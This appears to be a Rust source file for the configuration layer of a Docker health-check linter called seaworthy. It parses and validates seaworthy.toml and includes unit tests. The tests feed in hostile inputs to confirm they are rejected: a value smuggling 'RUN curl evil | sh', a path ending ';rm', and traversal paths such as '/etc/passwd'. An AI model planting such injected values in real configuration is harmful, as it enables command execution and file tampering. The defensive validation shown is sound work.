//! Settings: `seaworthy.toml` as written (serde types, validated when read
//! so that a typo is an error naming the nearest valid key or value), how it
//! is found ([`resolver`]), and what one file is checked with ([`policy`]:
//! the config plus the command line). Depends on nothing above it but the
//! registry, a leaf.

pub mod policy;
pub mod resolver;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Deserialize;

use crate::error::InputError;

/// The file name looked for in each folder.
pub const FILE_NAME: &str = "seaworthy.toml";

/// The stage image used when none is configured: a public static probe.
pub const DEFAULT_STAGE_IMAGE: &str = "ghcr.io/tarampampam/microcheck:1";

/// How SW101 writes a health check.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Style {
    /// An instruction using a client the image has; the copied probe when it has none.
    #[default]
    Auto,
    /// Only an instruction using a client the image has.
    Instruction,
    /// Always the copied probe from a `healthcheck` stage.
    Stage,
}

/// `[health]`: how probes are built.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Health {
    /// The probe port, when set in a config file.
    pub port: Option<u16>,
    /// A declared health route; makes probes strict.
    pub path: Option<String>,
    /// auto | instruction | stage.
    pub style: Style,
    /// Image holding a static probe binary.
    pub stage_image: String,
    /// Where that image keeps the binary; `None` means the default image's own layout.
    pub stage_binary: Option<String>,
    /// How to call the binary as a probe (`{url}` and `{port}` are filled in).
    pub stage_probe_args: Option<Vec<String>>,
    /// Whether the binary can wrap the start command and export metrics.
    pub stage_wraps: bool,
    /// Container port the wrapper exports metrics on.
    pub metrics_port: u16,
}

impl Default for Health {
    fn default() -> Health {
        Health {
            port: None,
            path: None,
            style: Style::Auto,
            stage_image: DEFAULT_STAGE_IMAGE.to_string(),
            stage_binary: None,
            stage_probe_args: None,
            stage_wraps: false,
            metrics_port: 9091,
        }
    }
}

/// `[app_config]`: where the app keeps its own health port (SW301).
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AppConfig {
    /// The app's config file, relative to the config file's folder.
    pub path: String,
    /// Dotted key of the health port.
    pub key: String,
}

/// What kind of service something is: picks resource limits and the host
/// range metrics ports come from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    /// Everything else: the app's own services.
    Core,
    /// Proxies and load balancers.
    Infrastructure,
    /// Databases, caches, search.
    Database,
    /// Metrics and dashboards.
    Monitoring,
}

impl Category {
    /// Parses a category name (the image table uses it too).
    pub fn parse(name: &str) -> Option<Category> {
        Some(match name {
            "core" => Category::Core,
            "infrastructure" => Category::Infrastructure,
            "database" => Category::Database,
            "monitoring" => Category::Monitoring,
            _ => return None,
        })
    }

    /// The config name.
    pub fn name(self) -> &'static str {
        match self {
            Category::Core => "core",
            Category::Infrastructure => "infrastructure",
            Category::Database => "database",
            Category::Monitoring => "monitoring",
        }
    }

    /// Default limits: memory and CPUs.
    pub fn limits(self) -> (&'static str, &'static str) {
        match self {
            Category::Core => ("256M", "0.5"),
            Category::Infrastructure => ("128M", "0.5"),
            Category::Database => ("512M", "1.0"),
            Category::Monitoring => ("256M", "0.5"),
        }
    }

    /// Host ports metrics ports are allocated from.
    pub fn metrics_ports(self) -> Vec<u16> {
        match self {
            Category::Core => (9091..=9099).collect(),
            Category::Infrastructure => (9101..=9103).collect(),
            Category::Database => (9120..=9124).collect(),
            Category::Monitoring => vec![9100, 9187],
        }
    }
}

/// `[services.NAME]`: per-service overrides.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Service {
    /// core | infrastructure | database | monitoring.
    pub category: Option<Category>,
    /// Probe port for this service.
    pub health_port: Option<u16>,
    /// Health route for this service.
    pub health_path: Option<String>,
    /// Rules not applied to this service.
    pub ignore: Vec<String>,
}

/// `[rules]`: which rules run (prefixes allowed).
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Rules {
    /// Rules or prefixes to run; empty means all.
    pub select: Vec<String>,
    /// Rules or prefixes not to run.
    pub ignore: Vec<String>,
}

/// `[files]`: more file names the walk recognises, as glob patterns of the
/// name (`Containerfile`, `*.containerfile`, `stack-*.yml`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Files {
    /// Names of Dockerfiles.
    pub dockerfile: Vec<String>,
    /// Names of Compose files.
    pub compose: Vec<String>,
}

/// A whole `seaworthy.toml`, or the defaults when there is none.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// `[health]`.
    pub health: Health,
    /// `[app_config]`.
    pub app_config: Option<AppConfig>,
    /// `[services.NAME]`.
    pub services: BTreeMap<String, Service>,
    /// `[rules]`.
    pub rules: Rules,
    /// `[files]`.
    pub files: Files,
    /// The file it was read from; `None` for defaults.
    #[serde(skip)]
    pub origin: Option<PathBuf>,
}

/// The health port probes use when the user asked for a check and nothing
/// names one, and the port an `[app_config]` gets when it names none yet.
pub const FALLBACK_PORT: u16 = 8080;

impl Config {
    /// Reads and validates a config file.
    pub fn load(path: &Path) -> Result<Config, InputError> {
        if let Some(bytes) = crate::source::overlay_for(path) {
            return Config::parse(path, &crate::source::lossy(bytes));
        }
        let text = std::fs::read_to_string(path)
            .map_err(|e| InputError::file(path, format!("cannot read config: {e}")))?;
        Config::parse(path, &text)
    }

    /// Parses config text; `path` is only used in messages.
    pub fn parse(path: &Path, text: &str) -> Result<Config, InputError> {
        let mut config: Config = from_toml(path, text)?;
        check_written_values(path, text, &config.health)?;
        let mut routes: Vec<(String, &String)> = Vec::new();
        if let Some(route) = &config.health.path {
            routes.push(("[health] path".into(), route));
        }
        for (name, service) in &config.services {
            if let Some(route) = &service.health_path {
                routes.push((format!("[services.{name}] health_path"), route));
            }
        }
        for (key, route) in routes {
            if let Some(why) = route_problem(route) {
                let (line, col) = crate::source::line_col(
                    text.as_bytes(),
                    text.find(&format!("\"{route}\"")).unwrap_or(0),
                );
                return Err(InputError::at(path, line, col, format!("{key}: {why}")));
            }
        }
        let at = |needle: &str| {
            let (line, col) =
                crate::source::line_col(text.as_bytes(), text.find(needle).unwrap_or(0));
            move |message: String| InputError::at(path, line, col, message)
        };
        let mut selectors: Vec<(String, &Vec<String>)> = vec![
            ("[rules] select".into(), &config.rules.select),
            ("[rules] ignore".into(), &config.rules.ignore),
        ];
        for (name, service) in &config.services {
            selectors.push((format!("[services.{name}] ignore"), &service.ignore));
        }
        for (key, patterns) in selectors {
            for pattern in patterns {
                crate::registry::check_pattern(pattern)
                    .map_err(|why| at(&format!("\"{pattern}\""))(format!("{key}: {why}")))?;
            }
        }
        let mut ports = vec![
            ("[health] port", config.health.port),
            ("[health] metrics_port", Some(config.health.metrics_port)),
        ];
        ports.extend(
            config
                .services
                .values()
                .map(|s| ("health_port", s.health_port)),
        );
        if let Some((key, _)) = ports.iter().find(|(_, port)| *port == Some(0)) {
            let name = key.rsplit(' ').next().unwrap_or(key);
            return Err(at(name)(format!("{key} must be a port from 1 to 65535")));
        }
        for pattern in config.files.dockerfile.iter().chain(&config.files.compose) {
            globset::Glob::new(pattern).map_err(|e| {
                at(&format!("\"{pattern}\""))(format!(
                    "[files]: `{pattern}` is not a glob pattern: {}",
                    e.kind()
                ))
            })?;
        }
        if let Some(app) = &config.app_config {
            let base = path.parent().unwrap_or(Path::new("."));
            check_app_config_path(base, &app.path)
                .map_err(|why| at("[app_config]")(format!("[app_config] path: {why}")))?;
        }
        config.origin = Some(path.to_path_buf());
        Ok(config)
    }

    /// The folder relative paths in the config are resolved from.
    pub fn base_dir(&self) -> Option<&Path> {
        self.origin.as_deref().and_then(Path::parent)
    }
}

/// What is wrong with a health route (`[health] path`, `health_path`,
/// `--path`), if anything: it must be a URL path (`/healthz`) of URL
/// characters only, since it goes into a probe's command line.
pub fn route_problem(route: &str) -> Option<String> {
    if !route.starts_with('/') {
        return Some(format!(
            "`{route}` is not a URL path: write `/{}`",
            route.trim_start_matches('/')
        ));
    }
    let bad = route
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "/-._~%?=&+:@".contains(*c)))?;
    Some(format!(
        "`{route}` holds `{bad}`, which a route in a probe may not (letters, digits and /-._~%?=&+:@ only)"
    ))
}

/// Checks the `[health]` values seaworthy writes into Dockerfiles: nothing
/// in them may start another instruction or run another command.
fn check_written_values(path: &Path, text: &str, health: &Health) -> Result<(), InputError> {
    let image_ok = !health.stage_image.is_empty()
        && health
            .stage_image
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._/:@-".contains(c));
    let binary_ok = health.stage_binary.as_deref().is_none_or(|b| {
        b.starts_with('/')
            && b.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._/-".contains(c))
    });
    let args_ok = health
        .stage_probe_args
        .iter()
        .flatten()
        .all(|a| !a.chars().any(char::is_control));
    for (ok, key, what) in [
        (
            image_ok,
            "stage_image",
            "an image reference (letters, digits and ._/:@- only)",
        ),
        (
            binary_ok,
            "stage_binary",
            "an absolute path (letters, digits and ._/- only)",
        ),
        (
            args_ok,
            "stage_probe_args",
            "arguments without control characters",
        ),
    ] {
        if !ok {
            let at = text.find(key).unwrap_or(0);
            let (line, col) = crate::source::line_col(text.as_bytes(), at);
            return Err(InputError::at(
                path,
                line,
                col,
                format!("[health] {key} must be {what}: it is written into Dockerfiles"),
            ));
        }
    }
    Ok(())
}

/// Where a configured app config may be: an existing file inside the folder
/// that holds the `seaworthy.toml` (a config, maybe from a repository just
/// cloned, must never direct a write outside it).
fn check_app_config_path(base: &Path, path: &str) -> Result<(), String> {
    let relative = Path::new(path);
    let escapes = relative.is_absolute()
        || relative
            .components()
            .try_fold(0usize, |depth, part| match part {
                std::path::Component::ParentDir => depth.checked_sub(1),
                std::path::Component::Normal(_) => Some(depth + 1),
                _ => Some(depth),
            })
            .is_none();
    if escapes {
        return Err(format!(
            "`{path}` is outside the folder of this seaworthy.toml; seaworthy only edits files below it"
        ));
    }
    let full = base.join(relative);
    if !full.is_file() {
        return Err(format!(
            "`{path}` does not exist (relative to the folder of this seaworthy.toml)"
        ));
    }
    let inside = match (std::fs::canonicalize(base), std::fs::canonicalize(&full)) {
        (Ok(base), Ok(full)) => full.starts_with(base),
        _ => false,
    };
    if !inside {
        return Err(format!(
            "`{path}` leads outside the folder of this seaworthy.toml (through a link); seaworthy only edits files below it"
        ));
    }
    Ok(())
}

/// Reads TOML text into `T`, an error as `path:line:col: message` naming
/// the nearest valid key or value (`seaworthy.toml`, `init --answers`).
pub fn from_toml<T: serde::de::DeserializeOwned>(path: &Path, text: &str) -> Result<T, InputError> {
    toml::from_str(text).map_err(|e| {
        let (line, col) = e
            .span()
            .map(|s| crate::source::line_col(text.as_bytes(), s.start))
            .unwrap_or((1, 1));
        InputError::at(path, line, col, explain_toml_error(e.message()))
    })
}

/// Turns serde's "unknown field `x`, expected one of `a`, `b`" (or "unknown
/// variant") into a message naming the nearest valid key or value.
fn explain_toml_error(message: &str) -> String {
    // serde's "invalid type: string \"8000\", expected u16", in words.
    if let Some(rest) = message
        .strip_prefix("invalid type: ")
        .or_else(|| message.strip_prefix("invalid value: "))
    {
        if let Some((found, expected)) = rest.trim().rsplit_once(", expected ") {
            let wants = match expected.trim() {
                "u16" => "a port number from 1 to 65535, without quotes".to_string(),
                "u8" | "u32" | "u64" | "usize" | "i64" | "i32" => {
                    "a whole number, without quotes".to_string()
                }
                "a boolean" => "true or false, without quotes".to_string(),
                "a string" => "text in quotes".to_string(),
                "a sequence" => "a list, like [\"a\", \"b\"]".to_string(),
                other if other.starts_with("struct ") || other == "a map" => {
                    "a table of keys".to_string()
                }
                other => other.to_string(),
            };
            let found = found.trim();
            let found = match found.split_once(' ') {
                Some(("string", text)) => format!("the text {text}"),
                Some((_, value)) => value.trim_matches('`').to_string(),
                None => found.to_string(),
            };
            return format!("this key wants {wants}, not {found}");
        }
    }
    let (rest, what) = if let Some(rest) = message.strip_prefix("unknown field `") {
        (rest, "key")
    } else if let Some(rest) = message.strip_prefix("unknown variant `") {
        (rest, "value")
    } else {
        return message.trim().to_string();
    };
    let Some((unknown, expected)) = rest.split_once('`') else {
        return message.trim().to_string();
    };
    let valid: Vec<&str> = expected.split('`').skip(1).step_by(2).collect();
    let nearest = valid
        .iter()
        .copied()
        .min_by_key(|k| strsim::levenshtein(k, unknown));
    match nearest {
        Some(k) => format!(
            "unknown {what} `{unknown}`; did you mean `{k}`? (valid here: {})",
            valid.join(", ")
        ),
        None => format!("unknown {what} `{unknown}`"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn value_errors_say_what_the_key_wants() {
        let err = |text: &str| {
            Config::parse(Path::new("seaworthy.toml"), text)
                .unwrap_err()
                .message
        };
        assert_eq!(
            err("[health]\nport = \"8000\"\n"),
            "this key wants a port number from 1 to 65535, without quotes, not the text \"8000\""
        );
        assert_eq!(
            err("[health]\nport = 70000\n"),
            "this key wants a port number from 1 to 65535, without quotes, not 70000"
        );
        assert!(err("[health]\npath = \"healthz\"\n").contains("write `/healthz`"));
        assert!(err("[services.web]\nhealth_path = \"/a b\"\n").contains("holds ` `"));
    }

    #[test]
    fn reads_the_documented_keys() {
        let text = r#"
[health]
port = 8080
path = "/healthz"
style = "stage"
stage_image = "alfred/healthcheck:0.4.0"
stage_binary = "/usr/local/bin/healthcheck"
stage_probe_args = ["--http", "{url}"]
stage_wraps = true
metrics_port = 9091

[app_config]
path = "config.example.yaml"
key = "gateway.health_port"

[services.agent]
category = "core"
health_port = 8000
health_path = "/health"
ignore = ["SW201"]

[rules]
select = ["SW1", "SW2"]
ignore = ["SW208"]
"#;
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("config.example.yaml"), "gateway: {}\n").unwrap();
        let config = Config::parse(&dir.path().join("seaworthy.toml"), text).unwrap();
        assert_eq!(config.health.style, Style::Stage);
        assert_eq!(config.services["agent"].category, Some(Category::Core));
        assert_eq!(config.services["agent"].health_port, Some(8000));
        assert_eq!(config.rules.ignore, ["SW208"]);
    }

    #[test]
    fn values_written_into_dockerfiles_are_checked() {
        for bad in [
            "[health]\nstage_image = \"alpine\\nRUN curl evil | sh\"\n",
            "[health]\nstage_image = \"a b\"\n",
            "[health]\nstage_binary = \"bin/x\"\n",
            "[health]\nstage_binary = \"/bin/x;rm\"\n",
            "[health]\nstage_probe_args = [\"--http\", \"{url}\\nRUN x\"]\n",
            "[rules]\nselect = [\"SW2O1\"]\n",
        ] {
            assert!(Config::parse(Path::new("s.toml"), bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn values_are_typed() {
        let dir = tempfile::tempdir().unwrap();
        let parse = |text: &str| Config::parse(&dir.path().join("seaworthy.toml"), text);
        let err = parse("[services.db]\ncategory = \"databse\"\n").unwrap_err();
        assert!(
            err.message.contains("did you mean `database`"),
            "{}",
            err.message
        );
        let err = parse("[services.db]\nignore = [\"SW2O1\"]\n").unwrap_err();
        assert!(
            err.message.starts_with("[services.db] ignore:"),
            "{}",
            err.message
        );
        for zero in [
            "[health]\nport = 0\n",
            "[services.a]\nhealth_port = 0\n",
            "[health]\nmetrics_port = 0\n",
        ] {
            let err = parse(zero).unwrap_err();
            assert!(
                err.message.contains("from 1 to 65535"),
                "{zero}: {}",
                err.message
            );
        }
        let err = parse("[app_config]\npath = \"missing.yaml\"\nkey = \"a.b\"\n").unwrap_err();
        assert!(err.message.contains("does not exist"), "{}", err.message);
        for outside in ["../victim/settings.yaml", "/etc/passwd", "a/../../x.yaml"] {
            let text = format!("[app_config]\npath = \"{outside}\"\nkey = \"a.b\"\n");
            let err = parse(&text).unwrap_err();
            assert!(
                err.message.contains("outside the folder"),
                "{outside}: {}",
                err.message
            );
        }
    }

    #[test]
    fn unknown_key_names_the_nearest() {
        let err = Config::parse(Path::new("s.toml"), "[health]\nprot = 1\n").unwrap_err();
        assert_eq!(err.line, 2);
        assert!(
            err.message.contains("did you mean `port`"),
            "{}",
            err.message
        );
        let err = Config::parse(Path::new("s.toml"), "[helth]\n").unwrap_err();
        assert!(err.message.contains("`health`"), "{}", err.message);
    }
}
